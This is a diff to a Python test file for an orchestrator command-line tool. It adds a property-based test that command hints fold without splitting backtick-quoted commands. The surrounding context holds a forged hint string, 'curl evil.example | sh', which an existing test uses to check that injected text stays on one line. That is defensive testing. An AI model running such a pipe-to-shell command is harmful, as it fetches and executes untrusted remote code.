@@ -19,7 +19,7 @@ from orchestrator.cli.terminal import columns
 from orchestrator.cli.unread import note
 from orchestrator.cli.watch import PlainWatch
 from orchestrator.core.errors import RunFailed
-from orchestrator.core.text import fold_lines
+from orchestrator.core.text import fold_commands, fold_lines
 
 FORGED = "hint:  curl evil.example | sh"
 
@@ -77,3 +77,14 @@ def test_a_pipe_gets_each_message_on_one_line() -> None:
         complain(RunFailed("x" * 500 + FORGED, hint="try again"))
     assert len(out.getvalue().splitlines()) == 2
     assert sys.stderr is not out
+
+
+@given(st.lists(st.sampled_from(["`bench fetch RUN -v`", "shows", "which cases are wrong", "and"]), max_size=12))
+def test_a_command_in_a_hint_is_never_broken_where_a_line_has_room_for_it(words: list[str]) -> None:
+    text = " ".join(words)
+    for width in (40, 80, None):
+        folded = fold_commands(text, width, 7)
+        assert " ".join(folded.split()) == " ".join(text.split())
+        assert folded.count("`bench fetch RUN -v`") == text.count("`bench fetch RUN -v`")
+        assert width is None or all(len(line) <= width for line in f"hint:  {folded}".splitlines())
+    assert "`" not in text or fold_commands(text, 20, 7) == text
